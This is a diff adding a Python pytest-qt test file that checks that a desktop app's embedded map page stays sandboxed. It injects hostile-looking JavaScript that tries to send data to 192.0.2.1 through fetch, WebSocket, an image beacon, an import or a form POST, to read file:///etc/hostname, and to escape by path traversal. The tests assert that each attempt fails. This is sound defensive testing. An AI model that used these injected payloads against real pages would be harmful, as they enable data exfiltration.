@@ -1,0 +1,96 @@
+"""Nothing leaves: what a hostile script in the map's own page can not do.
+
+The long story ``test_map_keeps_to_itself`` looks at the system calls; this looks from within.
+"""
+
+import os
+import signal
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import QUrl
+from pytestqt.qtbot import QtBot
+
+from console.ui.map.pane import MapPane
+from tests.ui.map.conftest import SOON, Ask
+
+pytestmark = pytest.mark.qt_log_ignore(
+    "QRhi", "RHI", "Vulkan", "GBM", "Sandboxing disabled", "GPUInfo", extend=True
+)
+
+GONE = "[typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof WebTransport]"
+FORM = (
+    "document.body.appendChild(Object.assign(document.createElement('form'), "
+    "{action: 'http://192.0.2.1/', method: 'POST'})).submit()"
+)
+
+
+def came(made: str, well: str) -> str:
+    """A promise that the thing made comes to a good end."""
+    return f"new Promise((yes, no) => Object.assign({made}, {{{well}: yes, onerror: no}}))"
+
+
+def test_what_reaches_hosts_past_the_gate_is_not_there(ask: Ask) -> None:
+    assert ask(GONE) == ["undefined"] * 3
+    assert ask("(window.RTCPeerConnection = 1, typeof RTCPeerConnection)") == "undefined"
+
+
+def test_nor_after_the_page_was_killed(pane: MapPane, ask: Ask, qtbot: QtBot) -> None:
+    with qtbot.waitSignals([pane.lost, pane.drawn], timeout=SOON):
+        assert pane.web is not None
+        os.kill(pane.web.process, signal.SIGKILL)
+    assert ask(GONE) == ["undefined"] * 3
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "fetch('http://192.0.2.1/')",
+        "fetch('https://example.org/', {mode: 'no-cors'})",
+        came("new WebSocket('ws://192.0.2.1/')", "onopen"),
+        came("Object.assign(new Image(), {src: 'http://192.0.2.1/a.png'})", "onload"),
+        "import('http://192.0.2.1/a.js')",
+        "fetch('file:///etc/hostname')",
+        "fetch('vigil://elsewhere/own/link.js')",
+        "fetch('own/link.js', {method: 'POST', body: 'x'})",
+        "fetch('own/../../secret')",
+    ],
+)
+def test_asking_for_anything_else_fails(
+    pane: MapPane, ask: Ask, qtbot: QtBot, attempt: str
+) -> None:
+    ask("(window.held = (answer) => { if (answer.ok === false) throw new Error(); }, 1)")
+    ask(
+        f"(window.end = '', {attempt}.then(held)"
+        ".then(() => { end = 'went'; }, () => { end = 'held'; }), 1)"
+    )
+    qtbot.waitUntil(lambda: ask("end") != "", timeout=SOON)
+    assert ask("end") == "held"
+
+
+def test_its_own_files_can_be_asked_for(ask: Ask, qtbot: QtBot) -> None:
+    ask("(window.end = '', fetch('own/link.js').then(a => a.text()).then(t => {end = t}), 1)")
+    qtbot.waitUntil(lambda: ask("end") != "", timeout=SOON)
+    assert "QWebChannel" in ask("end")
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        "location.href = 'http://192.0.2.1/'",
+        "window.open('http://192.0.2.1/')",
+        FORM,
+    ],
+)
+def test_the_page_goes_nowhere(pane: MapPane, ask: Ask, step: str) -> None:
+    ask(f"({step}, 1)")
+    assert ask("Vigil.view.census().outlines") == [56, 3231]
+    assert pane.web is not None
+    assert pane.web.view.url() == QUrl("vigil://map/")
+
+
+def test_nothing_is_kept_on_the_disk(pane: MapPane) -> None:
+    assert pane.web is not None
+    profile = pane.web.view.page().profile()
+    assert profile.isOffTheRecord()
+    assert not Path(profile.persistentStoragePath()).exists()
